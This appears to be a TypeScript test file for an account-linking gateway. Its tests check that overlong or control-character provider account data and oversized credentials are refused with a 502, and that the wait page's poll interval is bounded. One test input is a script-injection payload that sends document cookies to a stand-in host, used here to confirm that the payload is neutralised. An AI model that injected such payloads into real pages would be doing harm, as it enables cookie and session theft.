import { randomBytes } from 'node:crypto';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sha256 } from '../../src/core/crypto.ts';
import { createLinkStore } from '../../src/core/links.ts';
import type { Database } from '../../src/db/client.ts';
import { flows, links } from '../../src/db/schema.ts';
import { eq, sql } from '../../src/db/orm.ts';
import { startFakeJellyfin, type FakeJellyfin } from '../fakes/jellyfin.ts';
import { TestBrowser } from '../helpers/browser.ts';
import { mintContext } from '../helpers/context.ts';
import { createTestDatabase } from '../helpers/database.ts';
import { createTestGateway, type TestGateway } from '../helpers/gateway.ts';

/**
 * What a provider hands over is bounded by the contract (LIMITS in
 * src/provider.ts): an account id, name or handle from a server the gateway
 * does not control is refused with a 502 page when it is too long or holds
 * control characters, never stored and never a 500 (a 12 kB id used to break
 * the PostgreSQL index); the same for refreshed credentials. And the wait
 * page's poll interval, read back from the database, only ever reaches its
 * script as a bounded number.
 */
const FIXTURES = fileURLToPath(new URL('../fixtures/providers', import.meta.url));
const API_FIXTURES = fileURLToPath(new URL('../fixtures/api-providers', import.meta.url));

let database: Database;
let pin: TestGateway;
let jellyfin: FakeJellyfin;
let onJellyfin: TestGateway;
const reported: unknown[] = [];

beforeAll(async () => {
  database = await createTestDatabase();
  pin = await createTestGateway(database, { providersDir: FIXTURES, observe: { reportError: (error) => void reported.push(error) } });
  jellyfin = await startFakeJellyfin();
  onJellyfin = await createTestGateway(database, { env: { JELLYFIN_SERVER_URL: jellyfin.url }, observe: { reportError: (error) => void reported.push(error) } });
});
afterAll(async () => {
  await jellyfin?.close();
  await database?.close();
});

const stateOf = (html: string) => /name="state" value="([^"]+)"/.exec(html)![1]!;
const linksOf = async (userId: string) => database.db.select().from(links).where(eq(links.userId, userId));

/**
 * The pin fixture's account is whatever username was typed: it stands for a
 * provider passing on what its server said. Signs in, approves, and presses
 * "I have approved it" until the flow ends; the last page.
 */
async function pinAccount(userId: string, username: string): Promise<Response> {
  const browser = new TestBrowser((path, init) => pin.app.request(path, init));
  const state = stateOf(await (await browser.openLink(`/oauth/pin/start?context=${await mintContext('pin', userId)}`)).text());
  await browser.post('/oauth/pin/callback', { state, username, password: 'correct horse' });
  await browser.post('/oauth/pin/callback', { state, linkgate_action: 'poll' });
  return browser.post('/oauth/pin/callback', { state, linkgate_action: 'poll' });
}

describe('account ids and names from a provider', () => {
  it.each([
    // Random, so PostgreSQL cannot compress it under its index entry limit (2704 bytes).
    ['a 12 kB id (past what a PostgreSQL index holds)', randomBytes(9_000).toString('base64url'), 'its account id is longer than 512 characters'],
    ['a 513-character id', 'y'.repeat(513), 'its account id is longer than 512 characters'],
    ['an id with a newline', 'ada\nadmin', 'its account id holds control characters'],
    ['an id with a NUL', 'ada\u0000', 'its account id holds control characters'],
  ])('refuses %s with a 502 page, stores nothing and reports no fault', async (_name, username, reason) => {
    const userId = `bounds-${Math.random().toString(36).slice(2)}`;
    const before = reported.length;
    const page = await pinAccount(userId, username);
    expect(page.status).toBe(502);
    const html = await page.text();
    expect(html).toContain('Pin is not answering properly');
    expect(html).toContain('provider_response_invalid');
    expect(await linksOf(userId)).toEqual([]);
    expect(reported.length).toBe(before);
    const logged = pin.logs.map((line) => JSON.parse(line) as { errorCode?: string; message?: string }).filter((line) => line.errorCode === 'provider_response_invalid');
    expect(logged.at(-1)?.message).toBe(`the provider's answer was refused: ${reason}`);
  });

  it('links an account at the bounds (pin names the account by its id: 256 characters for both)', async () => {
    const page = await pinAccount('bounds-256', 'z'.repeat(256));
    expect(page.status).toBe(200);
    expect((await linksOf('bounds-256'))[0]).toMatchObject({ externalId: 'z'.repeat(256), externalName: 'z'.repeat(256) });
    expect((await pinAccount('bounds-257', 'z'.repeat(257))).status).toBe(502);
  });

  it.each([
    ['a 900 kB user name', { id: 'aa11bb22cc33dd44ee55ff6677889900', name: 'N'.repeat(900_000) }],
    ['a 12 kB user id', { id: randomBytes(9_000).toString('base64url'), name: 'Ada' }],
    ['a user name with control characters', { id: 'bb11bb22cc33dd44ee55ff6677889900', name: 'Ada\r\nLovelace' }],
  ])('refuses %s from a Jellyfin server with a 502 page and stores nothing', async (_name, user) => {
    jellyfin.users.set(user.id, { ...user, password: 'pw-bounds' });
    try {
      const userId = `jf-bounds-${Math.random().toString(36).slice(2)}`;
      const browser = new TestBrowser((path, init) => onJellyfin.app.request(path, init));
      // Quick Connect: the user approves the code in their app, and the server names the account.
      const waiting = await (await browser.openLink(`/oauth/jellyfin/start?context=${await mintContext('jellyfin', userId)}`)).text();
      jellyfin.approve(/class="code"[^>]*>(\d{6})</.exec(waiting)![1]!, user.id);
      const page = await browser.post('/oauth/jellyfin/callback', { state: stateOf(waiting), linkgate_action: 'poll' });
      expect(page.status).toBe(502);
      expect(await page.text()).toContain('provider_response_invalid');
      expect(await linksOf(userId)).toEqual([]);
    } finally {
      jellyfin.users.delete(user.id);
    }
  });
});

describe('refreshed credentials', () => {
  it('larger than the contract allows are refused with 502, and the stored ones stay', async () => {
    const gateway = await createTestGateway(database, { providersDir: API_FIXTURES });
    const browser = new TestBrowser((path, init) => gateway.app.request(path, init));
    const state = stateOf(await (await browser.openLink(`/oauth/token/start?context=${await mintContext('token', 'u-bloated')}`)).text());
    expect((await browser.post('/oauth/token/callback', { state, mode: 'bloated' })).status).toBe(200);
    const store = createLinkStore(database.db, gateway.keyring);
    const before = (await store.get({ tenant: 'default', userId: 'u-bloated', provider: 'token' }))!;

    const answer = await gateway.api('/users/u-bloated/links/token/token', { method: 'POST' });
    expect(answer.status).toBe(502);
    expect(await answer.json()).toEqual({ error: { code: 'provider_response_invalid', message: "the provider's answer was refused: its credentials are larger than 65536 bytes" } });
    const after = (await store.get({ tenant: 'default', userId: 'u-bloated', provider: 'token' }))!;
    expect(after.credentials).toBe(before.credentials);
    expect(store.openCredentials(after).accessToken).toBe('access-bloated');
  });
});

describe('the wait page', () => {
  it.each([
    ['script text', '0);fetch("//evil.example/"+document.cookie);(', 2000],
    ['a huge number', 1e12, 60_000],
    ['a negative number', -5, 500],
    ['a fraction', 1234.7, 1235],
    ['nothing', null, 2000],
  ])('puts only a bounded number into its script, whatever the stored pollMs is (%s)', async (_name, stored, expected) => {
    const browser = new TestBrowser((path, init) => pin.app.request(path, init));
    const state = stateOf(await (await browser.openLink(`/oauth/pin/start?context=${await mintContext('pin', `poll-${Math.random().toString(36).slice(2)}`)}`)).text());
    expect((await browser.post('/oauth/pin/callback', { state, username: 'ada', password: 'correct horse' })).status).toBe(200);
    // What a tampered or corrupted row would hold.
    const updated = await database.db
      .update(flows)
      .set({ step: sql`jsonb_set(${flows.step}, '{pollMs}', ${JSON.stringify(stored)}::jsonb)` })
      .where(eq(flows.stateHash, sha256(state)))
      .returning({ step: flows.step });
    expect(updated).toEqual([{ step: expect.objectContaining({ kind: 'wait', pollMs: stored }) }]);

    const page = await (await browser.get(`/oauth/pin/continue?state=${encodeURIComponent(state)}`)).text();
    const script = /<script nonce="[^"]+">([\s\S]*?)<\/script>/.exec(page)![1]!;
    expect(script).toContain(`setTimeout(tick, ${expected});`);
    expect(script).toContain(`answer.pollMs || ${expected})`);
    expect(script).not.toContain('evil.example');
  });
});
